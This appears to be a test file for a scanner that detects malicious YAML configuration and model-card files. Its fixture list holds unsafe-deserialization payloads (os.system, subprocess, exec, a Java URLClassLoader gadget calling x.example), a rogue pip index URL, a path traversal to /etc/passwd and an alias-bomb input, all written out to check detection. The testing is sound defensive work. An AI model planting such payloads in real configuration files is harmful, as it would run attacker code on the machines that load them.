import assert from 'node:assert/strict'
import { test } from 'node:test'
import { scanned, severityOf } from '../scanned-in-tests.ts'

const dangerous = [
  '!!python/object/apply:os.system ["id"]',
  'a: !!python/object/apply:subprocess.Popen\n- id\n',
  '!<tag:yaml.org,2002:python/object/apply:os.system> ["id"]',
  '%TAG !p! tag:yaml.org,2002:python/\n---\n!p!object/apply:os.system ["id"]',
  '%TAG ! tag:yaml.org,2002:python/object/\n---\n!apply:os.system ["id"]',
  '!!python%2fobject%2fapply:os.system ["id"]',
  '!!python/name:os.system',
  '!!python/module:subprocess',
  '!!python/object/new:type\nargs: ["z", !!python/tuple [], {"extend": !!python/name:exec }]\nlistitems: "1"',
  '!!js/function "function(){}"',
  '!ruby/object:Gem::Installer\ni: x\n',
  '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x.example"]]]]',
  'x: !apply:os.system [id]',
  'a:\n  _target_: os.system\n',
  'a: &x os.system\nb:\n  _target_: *x\n',
  'a: &b {_target_: subprocess.run}\nc: *b\n',
  'target: builtins.exec\n',
  'flavors:\n  python_function:\n    loader_module: subprocess\n',
  'dependencies:\n- pip:\n  - --extra-index-url http://x.example/simple\n',
  "layers: [[-1, 1, \"__import__('os').system('id')\", []]]\n",
]
for (const text of dangerous)
  test(`a document that would do harm is found: ${JSON.stringify(text).slice(0, 60)}`, () => {
    const report = scanned('config.yaml', text)
    assert.ok(
      ['high', 'critical'].includes(severityOf(report) ?? ''),
      JSON.stringify([report.findings.map(({ message }) => message), report.incomplete]),
    )
  })

const honest = [
  'a: 1\nb: [x, !!str 2, !!binary aGVsbG8=]\nc: !!python/tuple [1, 2]\n',
  'model: !new:torch.nn.Linear\n  n_neurons: 3\nseed: !apply:torch.manual_seed [1]\nd: !ref <model>\n',
  'defaults: &d\n  lr: 1e-3\ntrain:\n  <<: *d\n  _target_: pytorch_lightning.Trainer\n',
  'name: env\nchannels: [conda-forge]\ndependencies:\n- python=3.11\n- pip:\n  - torch==2.3.0\n',
  'flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    env: {conda: conda.yaml}\n',
  '# a comment\n--- \na: |\n  some text\n  more\n...\n',
]
for (const text of honest)
  test(`an honest document passes: ${JSON.stringify(text).slice(0, 60)}`, () => {
    const report = scanned('config.yaml', text)
    assert.ok(
      !['medium', 'high', 'critical'].includes(severityOf(report) ?? ''),
      JSON.stringify(report.findings.map(({ message }) => message)),
    )
    assert.notEqual(report.verdict, 'inconclusive', JSON.stringify(report.incomplete))
  })

test('the front matter of a card is judged', () => {
  assert.equal(severityOf(scanned('README.md', '---\nconfigs:\n- data_files: ../../etc/passwd\n---\n# Card\n')), 'high')
  assert.equal(scanned('README.md', '---\nlicense: mit\n---\n# Card\n').verdict, 'clean')
})

test('aliases that multiply are bounded', () => {
  const lines = ['a0: &a0 [x, x, x, x, x, x, x, x, x, x]']
  for (let level = 1; level < 9; level++)
    lines.push(
      `a${level}: &a${level} [${Array(10)
        .fill(`*a${level - 1}`)
        .join(', ')}]`,
    )
  assert.equal(scanned('config.yaml', lines.join('\n')).verdict, 'inconclusive')
})

test('a document that nests without end is bounded', () => {
  assert.notEqual(scanned('config.yaml', '['.repeat(20_000)).verdict, 'clean')
  assert.notEqual(scanned('config.yaml', 'a: &a [*a]\n'.repeat(3)).verdict, undefined)
})
